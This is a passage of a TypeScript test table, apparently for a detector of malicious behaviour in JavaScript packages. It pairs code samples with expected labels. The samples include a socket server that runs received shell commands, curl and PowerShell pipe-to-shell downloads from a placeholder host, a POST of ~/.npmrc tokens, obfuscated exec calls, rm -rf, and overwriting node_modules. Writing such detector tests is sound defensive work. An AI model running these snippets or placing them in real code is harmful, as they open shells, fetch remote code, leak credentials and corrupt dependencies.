    'run-shell carries:download | listen',
  ],
  [
    'a connection that gets a shell',
    `require('net').createServer((s) => s.on('data', (d) => ${CP}.exec(d.toString(), (e, o) => s.write(o)))).listen(1)`,
    'run-shell carries:download | open-socket carries:output',
  ],
  [
    'a query that is evaluated',
    "const a = require('express')(); a.get('/', (q, r) => r.send(eval(q.query.x))); a.listen(1)",
    'evaluate-downloaded | listen',
  ],
  [
    'a server that answers',
    "require('http').createServer((q, r) => r.end('hello')).listen(1)",
    'listen | !evaluate-downloaded | !run-shell',
  ],
  [
    'a script written and run',
    `require('fs').writeFileSync('/tmp/x.js', ${JSON.stringify(SCRIPT)}); ${CP}.exec('node /tmp/x.js')`,
    'write-file path:temp | run-own-file | http-send carries:credentials hidden',
  ],
  [
    'a shell script written and run',
    `require('fs').writeFileSync('/tmp/x', 'curl https://host.invalid/x | sh'); ${CP}.execSync('sh /tmp/x')`,
    'write-file | pipe-to-shell hidden',
  ],
  [
    'a script written and run further down a command line',
    `require('fs').writeFileSync('/tmp/x', ${JSON.stringify(SCRIPT)}); ${CP}.exec('cd /tmp && node /tmp/x')`,
    'write-file path:temp | http-send carries:credentials hidden',
  ],
  [
    'a script written, its first line says what reads it',
    `require('fs').writeFileSync('/tmp/x', ${JSON.stringify('#!/usr/bin/env python3\nimport os\nos.system("whoami")')}); ${CP}.exec('/tmp/x')`,
    'write-file | run-shell hidden | read-user-name',
  ],
  [
    'a text written and shown',
    `require('fs').writeFileSync('/tmp/x', ${JSON.stringify(SCRIPT)}); ${CP}.exec('cat /tmp/x')`,
    'write-file | !http-send',
  ],
  [
    'a script written and not run',
    `require('fs').writeFileSync('/tmp/x.js', ${JSON.stringify(SCRIPT)}); ${CP}.exec('node /tmp/y.js')`,
    'write-file | !http-send',
  ],
  [
    'a program of the package, named without a folder',
    { 'index.js': `${CP}.exec('x.exe')`, 'x.exe': PROGRAM },
    'run-program | run-own-file',
  ],
  ['a program of the system', `${CP}.exec('x.exe')`, 'run-program | !run-own-file'],
]);

const WORDS = ['a1', 'b2', 'c3', 'd4', 'e5', 'f6', 'g7', 'child_process', 'exec', 'whoami'];
const UNDER_7 = (text: string): string => Buffer.from(Buffer.from(text).map((c) => c ^ 7)).toString('base64');

table('JavaScript: parameters of a function made from text', [
  [
    'of any name',
    "Function('r', 'p', 'r(p[0])[p[1]](\"whoami\")')(require, ['child_process', 'exec'])",
    'evaluate | run-shell | read-user-name',
  ],
  [
    'of the names that are there anyway',
    "new Function('require', 'process', 'require(\"child_process\").exec(\"whoami\")')(require, process)",
    'evaluate | run-shell | read-user-name',
  ],
]);

table('JavaScript: decoders asked often', [
  [
    'more texts of a hexadecimal decoder than a function that acts is walked for',
    `const d = (x) => Buffer.from(x, 'hex').toString(); const w = [${WORDS.map((w) => `'${Buffer.from(w).toString('hex')}'`)}].map((x) => d(x)); require(w[7])[w[8]](w[9])`,
    'decode | P1 | run-shell hidden | read-user-name',
  ],
  [
    'the same under a key',
    `const d = (x) => { const b = Buffer.from(x, 'base64'); let o = ''; for (let i = 0; i < b.length; i++) o += String.fromCharCode(b[i] ^ 7); return o; }; const w = [${WORDS.map((w) => `'${UNDER_7(w)}'`)}]; require(d(w[0]) && d(w[1]) && d(w[2]) && d(w[3]) && d(w[4]) && d(w[5]) && d(w[6]) && d(w[7]))[d(w[8])](d(w[9]))`,
    'decode | P1 | run-shell hidden | read-user-name',
  ],
  [
    'text decrypted by a pass phrase',
    "const c = require('crypto').createDecipher('aes256', process.env.npm_package_description); const m = new module.constructor(); m._compile(c.update(f(), 'hex', 'utf8') + c.final('utf8'), '')",
    'decrypt | evaluate-decoded',
  ],
]);

table('JavaScript: commands', [
  [
    'a template of Bun',
    'await Bun.$`curl -s https://host.invalid/x | sh`.quiet()',
    'run-shell | pipe-to-shell to:other',
  ],
  ['a template of Bun, imported', "import { $ } from 'bun'; await $`whoami`", 'run-shell | read-user-name'],
  [
    'a template with a value',
    "import { $ } from 'zx'; const d = 'dist'; await $`rm -rf ${d}`",
    'run-shell | delete-tree',
  ],
  [
    'how Bun starts a program',
    "Bun.spawn(['sh', '-c', 'id'], { detached: true, stdio: ['ignore', 'ignore', 'ignore'] })",
    'run-program detached quiet program:shell',
  ],
  [
    'how Bun starts a program, in one object',
    "Bun.spawn({ cmd: ['sh', '-c', 'id'] })",
    'run-program program:shell',
  ],
  [
    'one command here, another there',
    `let c; if (process.platform === 'win32') c = 'powershell -c "iwr https://host.invalid/x | iex"'; else c = 'curl https://host.invalid/x | bash'; ${CP}.exec(c)`,
    'run-shell program:powershell | evaluate-downloaded | run-shell program:download | pipe-to-shell',
  ],
  [
    'one program here, another there',
    `${CP}.spawn(process.platform === 'win32' ? 'tasklist' : 'whoami', ['-a'])`,
    'read-process-list | read-user-name',
  ],
  [
    'the output of a command that reads secrets',
    `fetch('https://host.invalid', { method: 'POST', body: ${CP}.execSync('cat ~/.npmrc').toString() })`,
    'read-registry-token | http-send carries:credentials carries:output',
  ],
  [
    'the output of another command',
    `fetch('https://host.invalid', { method: 'POST', body: ${CP}.execSync('git rev-parse HEAD').toString() })`,
    'http-send carries:output | !read-registry-token',
  ],
  [
    'other packages, named by a folder',
    "const fs = require('fs'); for (const n of fs.readdirSync('node_modules')) fs.writeFileSync('node_modules/' + n + '/index.js', 'x')",
    'modify-package path:package',
  ],
]);
